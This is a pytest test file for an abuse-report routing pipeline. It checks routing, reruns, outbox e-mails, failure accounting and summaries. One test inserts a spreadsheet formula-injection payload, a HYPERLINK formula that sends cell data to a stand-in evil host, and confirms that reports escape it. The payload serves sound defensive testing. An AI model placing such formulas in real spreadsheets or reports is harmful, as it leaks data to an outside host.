"""The daily job end to end on the example day, checked independently row by row.

The independent check reads the inputs and the reports with Python's ``csv`` module and decides
membership with the ``ipaddress`` module and plain set logic: it shares no code with the router.
"""

from __future__ import annotations

import csv
import email
import glob
import ipaddress
import json
import shutil
import tomllib
from pathlib import Path

import pytest

from herald.cli import main
from herald.config import settings_from_dict
from herald.pipeline import run_day
from herald.schema import SEVERITY_LEVELS, default_registry

DAY = "2026-11-30"
REG = default_registry()


def example_settings(repo_root: Path, tmp_path: Path, inbox: Path | None = None):
    raw = tomllib.loads((repo_root / "examples/herald.toml").read_text())
    raw["paths"] = {"inbox": str(inbox or repo_root / "examples/inbox"), "data": str(tmp_path / "data"),
                    "reports": str(tmp_path / "reports"), "outbox": str(tmp_path / "outbox")}
    return settings_from_dict(raw, base=repo_root / "examples"), raw


def expected_rows(repo_root: Path, raw: dict) -> dict[tuple[str, str], set[tuple]]:
    """(recipient, type) -> set of (timestamp, address) of the distinct events it must receive."""
    out: dict[tuple[str, str], set[tuple]] = {}
    for path in sorted(glob.glob(str(repo_root / "examples/inbox" / DAY / "*.csv"))):
        tname = Path(path).stem
        rtype = REG.get(tname)
        with open(path, newline="", encoding="utf-8-sig") as fh:
            rows = list(csv.DictReader(fh))
        addr_col = "src_ip" if "src_ip" in rtype.columns else "ip"
        asn_col, geo_col = ("src_asn", "src_geo") if addr_col == "src_ip" else ("asn", "geo")
        for row in rows:
            try:
                ip = ipaddress.ip_address(row.get(addr_col) or "")
            except ValueError:
                ip = None
            asn = int(row[asn_col]) if row.get(asn_col) else None
            geo = (row.get(geo_col) or "").upper()
            sev = (row.get("severity") or "").lower()
            rank = SEVERITY_LEVELS.index(sev if sev in SEVERITY_LEVELS else rtype.default_severity)
            shares = [r for r in raw["recipients"] if r["kind"] != "law_enforcement"]
            for op in raw.get("operations", []):
                for partner in op["partners"]:
                    le = next(r for r in raw["recipients"] if r["name"] == partner["recipient"])
                    shares.append({**le, "countries": partner["countries"], "families": op["families"]})
            for r in shares:
                nets = [ipaddress.ip_network(c) for c in r.get("cidrs", [])]
                hit = (ip is not None and any(ip in n for n in nets if n.version == ip.version)) \
                    or (asn is not None and asn in r.get("asns", [])) or geo in r.get("countries", [])
                if not hit:
                    continue
                if r.get("report_types") and tname not in r["report_types"]:
                    continue
                if rank < SEVERITY_LEVELS.index(r.get("min_severity", "info")):
                    continue
                fams = r.get("families", [])
                if fams and (row.get("infection") or row.get("family") or "").lower() not in fams:
                    continue
                addr = str(ip) if ip else row.get(addr_col)
                out.setdefault((r["name"], tname), set()).add((row["timestamp"], addr))
    return out


def read_report(path: str) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_example_day_routes_exactly_the_matching_events(repo_root, tmp_path):
    settings, raw = example_settings(repo_root, tmp_path)
    summary = run_day(settings, DAY)
    assert summary.errors == []
    assert summary.reconciles
    n_in = sum(len(read_report(p)) for p in glob.glob(str(repo_root / "examples/inbox" / DAY / "*.csv")))
    assert summary.rows_in == n_in == 174
    assert summary.rows_quarantined == 0

    expected = expected_rows(repo_root, raw)
    got: dict[tuple[str, str], set[tuple]] = {}
    for rep in summary.reports:
        rows = read_report(rep["path"])
        rtype = REG.get(rep["type"])
        assert list(rows[0].keys()) == list(rtype.columns)  # schema order, every column
        assert len(rows) == rep["rows"]
        addr_col = rtype.address_column
        keys = [(r["timestamp"], r[addr_col]) for r in rows]
        assert len(set(tuple(r.values()) for r in rows)) == len(rows)  # deduplicated
        got[(rep["recipient"], rep["type"])] = set(keys)
        name = Path(rep["path"]).name
        assert name.startswith(f"{DAY}-{rep['type']}-")
        if "severity" in rtype.columns:  # the event's own level or the type's default, never empty
            assert all(r["severity"] in SEVERITY_LEVELS for r in rows), rep["path"]
        # no string cell can run as a spreadsheet formula (docs/reports.md)
        strings = [c for c, t in rtype.column_types.items() if str(t) == "string"]
        assert not any(r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in strings)
    assert got == expected
    # every kind of recipient received something
    kinds = {r["kind"] for r in summary.reports}
    assert kinds == {"network_owner", "national_cert", "law_enforcement"}
    # the law-enforcement partner only got virut events in its jurisdiction
    le = [r for r in summary.reports if r["kind"] == "law_enforcement"]
    assert [r["type"] for r in le] == ["event4_sinkhole"]
    for row in read_report(le[0]["path"]):
        assert row["infection"] == "virut" and row["src_geo"] in {"US", "BE", "PE"}


def test_rerun_gives_identical_files_and_outbox_messages(repo_root, tmp_path):
    settings, _ = example_settings(repo_root, tmp_path)
    first = run_day(settings, DAY)
    files = {p: p.read_bytes() for p in (tmp_path / "reports").rglob("*") if p.is_file()}
    files |= {p: p.read_bytes() for p in (tmp_path / "outbox").rglob("*") if p.is_file()}
    skipped = run_day(settings, DAY)
    assert skipped.skipped and skipped.previous["rows_in"] == first.rows_in
    second = run_day(settings, DAY, force=True)
    again = {p: p.read_bytes() for p in (tmp_path / "reports").rglob("*") if p.is_file()}
    again |= {p: p.read_bytes() for p in (tmp_path / "outbox").rglob("*") if p.is_file()}
    assert files == again and len(files) == 2 * len(first.reports)
    assert first.to_dict()["rows_reported"] == second.to_dict()["rows_reported"]
    # re-ingesting the same inputs did not duplicate events in the store
    stored = list((tmp_path / "data/events").rglob("*.parquet"))
    assert len(stored) == len(first.inputs)


def test_outbox_message_content(repo_root, tmp_path):
    settings, _ = example_settings(repo_root, tmp_path)
    summary = run_day(settings, DAY)
    rep = next(r for r in summary.reports if r["kind"] == "law_enforcement")
    msg = email.message_from_bytes(Path(rep["message"]).read_bytes())
    assert msg["To"] == "virut-taskforce@police.example"
    assert "TLP:RED" in msg["Subject"] and msg["Auto-Submitted"] == "auto-generated"
    body = next(p for p in msg.walk() if p.get_content_type() == "text/plain").get_payload(decode=True).decode()
    assert f"{rep['rows']} event(s)" in body and DAY in body and "TLP:RED" in body
    att = next(p for p in msg.walk() if p.get_filename())
    assert att.get_payload(decode=True) == Path(rep["path"]).read_bytes()


def test_cli_run_summary_json_and_exit_status(repo_root, tmp_path, capsys):
    inbox = tmp_path / "inbox"
    shutil.copytree(repo_root / "examples/inbox", inbox)
    # an unknown report type and a file with a bad row: the rest of the run goes on
    shutil.copy(Path(repo_root) / "tests/data/samples/shadowserver/phish_url.csv", inbox / DAY)
    (inbox / DAY / "scan_ssl.csv").write_text(
        '"timestamp","ip","port"\n"2026-11-30 01:02:03","203.0.113.9",443\n"not a time","203.0.113.10",443\n')
    _, raw = example_settings(repo_root, tmp_path, inbox)
    cfg = tmp_path / "herald.toml"
    import tomli_w
    cfg.write_text(tomli_w.dumps(raw))
    out = tmp_path / "summary.json"
    status = main(["run", "--config", str(cfg), "--date", DAY, "--summary-json", str(out)])
    assert status == 1
    data = json.loads(out.read_text())
    assert data["rows_in"] == data["rows_reported"] + data["rows_unrouted"] + data["rows_quarantined"] \
        + data["rows_duplicate"] + data["rows_failed"]
    # the unreadable phish_url.csv (3 data rows) counts as failed, named in the summary
    assert data["rows_quarantined"] == 1 and data["rows_in"] == 174 + 2 + 3
    assert data["rows_failed"] == 3 and data["reconciles"]
    assert [(Path(f["path"]).name, f["rows"]) for f in data["failed_inputs"]] == [("phish_url.csv", 3)]
    assert any("phish_url" in e for e in data["errors"])
    assert len(data["reports"]) > 5
    q = next((tmp_path / "data/quarantine" / DAY).glob("scan_ssl.csv.*.quarantine.csv")).read_text()
    assert ',3,"timestamp","not a timestamp' in q
    err = capsys.readouterr().err
    assert "phish_url" in err


def test_bad_date_is_rejected(repo_root, tmp_path):
    settings, _ = example_settings(repo_root, tmp_path)
    from herald.errors import HeraldError
    with pytest.raises(HeraldError):
        run_day(settings, "30-11-2026")


def test_intelmq_json_export_of_reports(repo_root, tmp_path):
    settings, raw = example_settings(repo_root, tmp_path)
    settings.report_formats = ["csv", "intelmq"]
    summary = run_day(settings, DAY)
    rep = next(r for r in summary.reports if r["type"] == "event6_sinkhole_http")
    events = [json.loads(line) for line in Path(rep["intelmq_path"]).read_text().splitlines()]
    rows = read_report(rep["path"])
    assert len(events) == len(rows) == rep["rows"]
    assert [e["source.ip"] for e in events] == [r["src_ip"] for r in rows]
    assert all(e["classification.taxonomy"] for e in events)


def test_missing_inbox_is_an_error_and_nothing_is_recorded(repo_root, tmp_path):
    settings, _ = example_settings(repo_root, tmp_path, inbox=tmp_path / "no-such-inbox")
    from herald.errors import ConfigError
    with pytest.raises(ConfigError) as exc:
        run_day(settings, DAY)
    assert "no-such-inbox" in str(exc.value)


def test_late_inputs_of_a_done_day_are_reported_not_silently_skipped(repo_root, tmp_path, capsys):
    inbox = tmp_path / "inbox"
    shutil.copytree(repo_root / "examples/inbox", inbox)
    _, raw = example_settings(repo_root, tmp_path, inbox)
    import tomli_w
    cfg = tmp_path / "herald.toml"
    cfg.write_text(tomli_w.dumps(raw))
    assert main(["run", "--config", str(cfg), "--date", DAY]) == 0
    # a file that arrives after the day ran, and a second copy of an input under another name
    shutil.copy(Path(repo_root) / "tests/data/samples/shadowserver/scan_ftp.csv", inbox / DAY)
    assert main(["run", "--config", str(cfg), "--date", DAY]) == 1
    assert "scan_ftp.csv" in capsys.readouterr().err
    shutil.copy(inbox / DAY / "scan_http.csv", inbox / DAY / "scan_http-copy.csv")
    settings, _ = example_settings(repo_root, tmp_path, inbox)
    summary = run_day(settings, DAY, force=True)
    assert summary.reconciles and summary.rows_in == 174 + 2
    assert any("same content" in w for w in summary.warnings)


def test_a_day_without_inputs_records_nothing(repo_root, tmp_path):
    settings, _ = example_settings(repo_root, tmp_path)
    summary = run_day(settings, "2026-12-01")
    assert summary.rows_in == 0 and summary.reports == []
    assert any("no input files" in w for w in summary.warnings)
    later = run_day(settings, "2026-12-01")
    assert not later.skipped


def test_unchanged_configuration_is_not_imported_again_but_a_new_database_is(repo_root, tmp_path):
    from herald.constituency.sync import sync_config
    from herald.store.db import open_db
    settings, _ = example_settings(repo_root, tmp_path)
    db = open_db(settings.database_url)
    assert sync_config(db, settings)["skipped"] is False
    assert sync_config(db, settings)["skipped"] is True
    db.dispose()
    (tmp_path / "data" / "herald.db").unlink()
    db = open_db(settings.database_url)
    assert sync_config(db, settings)["skipped"] is False  # the database was recreated
    settings.raw["recipients"][0]["asns"] = [7922, 64496]
    assert sync_config(db, settings)["skipped"] is False  # the file changed
    db.dispose()


def test_forced_rerun_removes_reports_of_a_recipient_no_longer_routed(repo_root, tmp_path):
    settings, raw = example_settings(repo_root, tmp_path)
    first = run_day(settings, DAY)
    gone = first.reports[0]["recipient"]
    gone_files = {r["path"] for r in first.reports if r["recipient"] == gone}
    gone_files |= {r["message"] for r in first.reports if r["recipient"] == gone}
    kept_files = {r["path"] for r in first.reports if r["recipient"] != gone}
    assert gone_files and kept_files and all(Path(p).exists() for p in gone_files)
    # a stray file of another kind in the report tree is not the run's to remove
    stray = Path(next(iter(kept_files))).parent / "notes.txt"
    stray.write_text("operator's notes")
    # recipients absent from the file stay in the database; a table disables one
    for r in raw["recipients"]:
        if r["name"] == gone:
            r["disabled"] = True
    settings2 = settings_from_dict(raw, base=repo_root / "examples")
    second = run_day(settings2, DAY, force=True)
    assert gone not in {r["recipient"] for r in second.reports}
    assert not [p for p in gone_files if Path(p).exists()]
    assert all(Path(p).exists() for p in kept_files)
    assert stray.read_text() == "operator's notes"


def test_outbox_copies_follow_mail_attach_max(repo_root, tmp_path):
    import email
    from email import policy

    settings, raw = example_settings(repo_root, tmp_path)
    raw["mail"] = {"attach_max": 2000, "zip_above": 1 << 20}
    settings = settings_from_dict(raw, base=repo_root / "examples")
    s = run_day(settings, DAY)
    big = [r for r in s.reports if Path(r["path"]).stat().st_size > 2000]
    small = [r for r in s.reports if Path(r["path"]).stat().st_size <= 2000]
    assert big and small
    for r in big + small:
        msg = email.message_from_bytes(Path(r["message"]).read_bytes(), policy=policy.default)
        attached = [p.get_content() for p in msg.iter_attachments()]
        body = msg.get_body(("plain",)).get_content()
        size = Path(r["path"]).stat().st_size
        if size > 2000:
            assert attached == [] and str(size) in body.replace(",", "") and r["sha256"] in body
        else:
            data = Path(r["path"]).read_bytes()
            assert [a if isinstance(a, bytes) else a.encode() for a in attached] == [data]


def _failing_inbox(repo_root: Path, tmp_path: Path) -> Path:
    inbox = tmp_path / "inbox"
    shutil.copytree(repo_root / "examples/inbox", inbox)
    # unknown report type: 3 data rows, one of them spanning two lines inside quotes
    (inbox / DAY / "phish_url.csv").write_text(
        '"timestamp","url"\n"2026-11-30 01:00:00","http://a.example/"\n\n'
        '"2026-11-30 02:00:00","http://b.example/\nx"\n"2026-11-30 03:00:00","c"\n')
    # a Shadowserver type without its timestamp column: 2 rows
    (inbox / DAY / "scan_ssl.csv").write_text('"ip","port"\n"203.0.113.9",443\n"203.0.113.10",443\n')
    return inbox


def test_rows_of_unreadable_inputs_are_counted_as_failed(repo_root, tmp_path):
    inbox = _failing_inbox(repo_root, tmp_path)
    settings, _ = example_settings(repo_root, tmp_path, inbox)
    summary = run_day(settings, DAY)
    data = summary.to_dict()
    assert data["rows_failed"] == 3 + 2 and data["rows_in"] == 174 + 5
    assert data["rows_in"] == (data["rows_reported"] + data["rows_unrouted"] + data["rows_quarantined"]
                               + data["rows_duplicate"] + data["rows_failed"])
    assert data["reconciles"] and data["status"] == "errors"
    assert sorted((Path(f["path"]).name, f["rows"]) for f in data["failed_inputs"]) == [
        ("phish_url.csv", 3), ("scan_ssl.csv", 2)]
    assert all(f["error"] for f in data["failed_inputs"])


def test_a_day_with_a_failed_input_is_not_done_and_runs_again_once_fixed(repo_root, tmp_path):
    from herald.store import ledger
    from herald.store.db import open_db

    inbox = _failing_inbox(repo_root, tmp_path)
    settings, _ = example_settings(repo_root, tmp_path, inbox)
    first = run_day(settings, DAY)
    assert first.errors and not first.skipped
    db = open_db(settings.database_url)
    try:
        info = ledger.last_run(db, DAY)
        assert info.status == "failed" and info.counts["rows_failed"] == 5
    finally:
        db.engine.dispose()
    # the bad inputs are removed (or fixed): the next run, without --force, processes the day
    (inbox / DAY / "phish_url.csv").unlink()
    (inbox / DAY / "scan_ssl.csv").write_text(
        '"timestamp","ip","port"\n"2026-11-30 01:02:03","203.0.113.9",443\n')
    second = run_day(settings, DAY)
    assert not second.skipped and second.errors == [] and second.ok
    assert second.rows_in == 174 + 1 and second.rows_failed == 0
    # now it is done
    assert run_day(settings, DAY).skipped


def test_summary_report_entries_carry_the_recipients_email(repo_root, tmp_path):
    settings, raw = example_settings(repo_root, tmp_path)
    data = run_day(settings, DAY).to_dict()
    emails = {r["name"]: r["email"] for r in raw["recipients"]}
    assert data["reports"]
    for rep in data["reports"]:
        assert rep["email"] == emails[rep["recipient"]]


def test_cli_run_prints_a_bounded_summary_with_the_largest_recipients(repo_root, tmp_path, capsys):
    from herald.commands import run as run_cmd

    _, raw = example_settings(repo_root, tmp_path)
    cfg = tmp_path / "herald.toml"
    import tomli_w
    cfg.write_text(tomli_w.dumps(raw))
    assert main(["run", "--config", str(cfg), "--date", DAY]) == 0
    out = capsys.readouterr().out
    summary = json.loads((tmp_path / "data/runs" / f"{DAY}.json").read_text())
    assert f"Every report (recipient, e-mail, type, rows, path): {tmp_path / 'data/runs' / (DAY + '.json')}" in out
    # no report path is printed, only the top recipients by rows
    assert not any(r["path"] in out for r in summary["reports"])
    per: dict[str, int] = {}
    for r in summary["reports"]:
        per[r["recipient"]] = per.get(r["recipient"], 0) + r["rows"]
    top = sorted(per.items(), key=lambda kv: (-kv[1], kv[0]))[:run_cmd.TOP_RECIPIENTS]
    listed = [line.split("  ")[1].strip() for line in out.splitlines() if line.startswith("  ")]
    assert [line.split()[0] for line in listed] == [name.split()[0] for name, _ in top]
    # bounded whatever the number of reports: a day with 9,750 reports prints the same few lines
    many = dict(summary, reports=[dict(r, recipient=f"r{i:05d}", rows=i % 97) for i, r in
                                  enumerate(summary["reports"] * 1000)])
    lines = run_cmd.summary_lines(many, run_cmd.load_settings(cfg).paths, Path("s.json"))
    assert len(lines) <= 6 + run_cmd.TOP_RECIPIENTS and "s.json" in lines[-2]


def test_an_input_failing_after_its_events_were_stored_counts_once_as_failed(repo_root, tmp_path,
                                                                            monkeypatch):
    import herald.store.ingest as ingest

    inbox = tmp_path / "inbox"
    shutil.copytree(repo_root / "examples/inbox", inbox)
    (inbox / DAY / "scan_ssl.csv").write_text(
        '"timestamp","ip","port"\n"2026-11-30 01:02:03","203.0.113.9",443\n"not a time","203.0.113.10",443\n')

    def broken(path, quarantine):
        raise OSError("disk full")

    monkeypatch.setattr(ingest, "write_quarantine", broken)  # fails after the events were stored
    settings, _ = example_settings(repo_root, tmp_path, inbox)
    data = run_day(settings, DAY).to_dict()
    assert data["rows_failed"] == 2 and data["rows_in"] == 174 + 2 and data["reconciles"]
    assert data["rows_stored"] == 174 - data["rows_quarantined"]
    assert not any(r["type"] == "scan_ssl" for r in data["reports"])
    assert not list((tmp_path / "data/events" / f"date={DAY}").glob("type=scan_ssl/*.parquet"))


def test_attacker_text_reaches_reports_escaped_and_recoverable(repo_root, tmp_path):
    from herald.reports.cells import unescape_formula

    inbox = tmp_path / "inbox"
    shutil.copytree(repo_root / "examples/inbox", inbox)
    path = inbox / DAY / "event4_sinkhole_http.csv"
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for r in rows:
        r["http_agent"], r["http_url"] = evil, "-2+3"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    settings, _ = example_settings(repo_root, tmp_path, inbox)
    summary = run_day(settings, DAY)
    reps = [r for r in summary.reports if r["type"] == "event4_sinkhole_http"]
    assert reps
    for rep in reps:
        for row in read_report(rep["path"]):
            assert row["http_agent"] == "'" + evil and unescape_formula(row["http_agent"]) == evil
            assert row["http_url"] == "'-2+3" and unescape_formula(row["http_url"]) == "-2+3"


def test_the_summary_json_is_the_summary_one_report_per_line():
    from herald.summary import summary_json

    data = {"day": "2026-11-30", "reports": [{"recipient": "b", "rows": 2, "path": "é/x.csv"},
                                             {"recipient": "a", "rows": 1, "path": "y"}],
            "inputs": [], "stages_seconds": {"route": 1.5, "ingest": 0.25}, "run_id": None}
    text = summary_json(data)
    assert json.loads(text) == data
    lines = text.decode().splitlines()
    assert lines[0] == "{" and lines[-1] == "}"
    assert lines.count('    {"path": "\\u00e9/x.csv", "recipient": "b", "rows": 2},') == 1
    assert '  "stages_seconds": {"ingest": 0.25, "route": 1.5}' in lines
    assert [ln.split(":")[0] for ln in lines if ln.startswith('  "')] == \
        ['  "day"', '  "inputs"', '  "reports"', '  "run_id"', '  "stages_seconds"']
    assert summary_json(dict(reversed(list(data.items())))) == text


def test_a_misspelled_recipient_key_names_the_file_and_the_table(repo_root, tmp_path, capsys):
    text = (repo_root / "examples" / "herald.toml").read_text()
    name = tomllib.loads(text)["recipients"][1]["name"]
    marker = f'name = "{name}"\n'
    assert marker in text
    cfg = tmp_path / "herald.toml"
    cfg.write_text(text.replace(marker, marker + "atach = true\n", 1).replace('"../var/', '"var/'))
    shutil.copytree(repo_root / "examples" / "inbox", tmp_path / "inbox")
    assert main(["run", "--config", str(cfg), "--date", "2026-11-30"]) == 2
    err = capsys.readouterr().err
    assert f"{cfg}: recipients[1] {name!r}: unknown key(s) atach" in err
    assert "Traceback" not in err
